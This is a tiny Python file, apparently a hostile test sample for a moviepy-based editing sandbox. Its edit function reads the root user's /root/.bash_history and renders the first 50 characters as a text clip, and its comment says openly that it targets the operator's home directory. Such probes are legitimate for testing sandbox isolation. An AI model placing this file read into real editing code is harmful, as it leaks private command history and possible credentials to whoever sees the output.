# ruff: noqa
# Read the operator's home directory and render it as text.
from moviepy import TextClip


def edit(source):
    secret = open("/root/.bash_history").read()
    return TextClip(text=secret[:50], font_size=10).with_duration(1)
